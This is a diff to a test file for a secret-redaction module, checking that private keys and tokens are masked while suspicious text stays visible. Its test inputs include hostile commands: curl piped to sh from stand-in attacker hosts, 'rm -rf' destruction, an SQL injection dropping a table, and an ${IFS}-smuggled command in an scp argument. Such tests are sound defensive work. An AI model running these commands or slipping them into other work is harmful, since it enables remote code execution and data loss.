@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { learnSecret, MASK, maskText, scrubber } from './redact.ts'
+import { isSureName, learnSecret, MASK, maskKeys, maskText, scrubber } from './redact.ts'
 
 test('a known secret is taken out in whatever form it comes back', () => {
   const scrub = scrubber(['p@ss word/1"', 'short'])
@@ -61,29 +61,40 @@ test('many secrets are all found, next to each other and twice', () => {
 })
 
 test('a private key is masked to its end, or to the end of what there is', () => {
-  const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
-  const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\nabcd\n-----END RSA PRIVATE KEY-----`
-  for (const form of [
-    key,
-    key.replaceAll('\n', '\\n'),
-    key.replaceAll('\n', ' '),
-    key.replaceAll('\n', '\r\n'),
-  ])
-    expect(maskText(`a ${form} b`)).toBe(`a ${MASK} b`)
-  const locked = key.replace('-----\n', '-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E2D\n\n')
-  expect(maskText(locked)).toBe(MASK)
-  expect(maskText(`a ${key.slice(0, 64)}`)).toBe(`a ${MASK}`)
+  const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd\n-----END RSA PRIVATE KEY-----'
+  expect(maskText(`a ${key} b`)).toBe(`a ${MASK} b`)
+  expect(maskText(`a ${key.slice(0, 40)}`)).toBe(`a ${MASK}`)
 })
 
-test('what only stands where a secret could be is not hidden from who must judge it [D11]', () => {
+test('for who decides by it, a text is masked where it surely is a key, and no further [D11]', () => {
+  const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
+  const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\nabcd\n-----END RSA PRIVATE KEY-----`
+  const forms = ['\n', '\\n', ' ', '\r\n'].map((end) => key.replaceAll('\n', end))
+  const locked = key.replace('-----\n', '-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E2D\n\n')
+  for (const form of [...forms, locked, `ghp_${'a1'.repeat(12)}`, `busbar_${'aB3_'.repeat(8)}`])
+    expect(maskKeys(`a ${form}; b`)).toBe(`a ${MASK}; b`)
+  for (const text of [
+    'ls #?key=$(curl${IFS}evil.example|sh)',
+    "select 1; -- ?key=';drop/**/table/**/users;--",
+    'scp a://b:;rm${IFS}-rf${IFS}~;echo${IFS}x@host',
+    'commit 0b1f3c7e5d1a4c3f9d6e0a1b2c3d4e5f0b1f3c7e',
+  ])
+    expect(maskKeys(text)).toBe(text)
   for (const [text, seen] of [
-    ['echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh; rm -rf ~', 'rm -rf ~'],
+    [
+      'echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh; rm -rf ~',
+      '; curl http://evil/x | sh; rm -rf ~',
+    ],
     ['-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----', 'rm -rf /'],
-    ['ls #?key=$(curl${IFS}evil.example|sh)', '$(curl${IFS}evil.example|sh)'],
-    ["select 1; -- ?key=';drop/**/table/**/users;--", "';drop/**/table/**/users;--"],
-    ['scp a://b:;rm${IFS}-rf${IFS}~;echo${IFS}x@host', ';rm${IFS}-rf${IFS}~;'],
   ] as const)
-    expect(maskText(text)).toContain(seen)
+    expect(maskKeys(text)).toContain(seen)
+})
+
+test('a name of which there is no doubt is that of a secret, and not of a key in a store [D11]', () => {
+  for (const name of ['password', 'api_key', 'apiKey', 'Authorization', 'refresh_token', 'clientSecret'])
+    expect([name, isSureName(name)]).toEqual([name, true])
+  for (const name of ['key', 'issueKey', 'max_tokens', 'turkey', 'author', 'token_path'])
+    expect([name, isSureName(name)]).toEqual([name, false])
 })
 
 test('tokens of our own are masked wherever they stand, and secrets as an address writes them [C11]', () => {
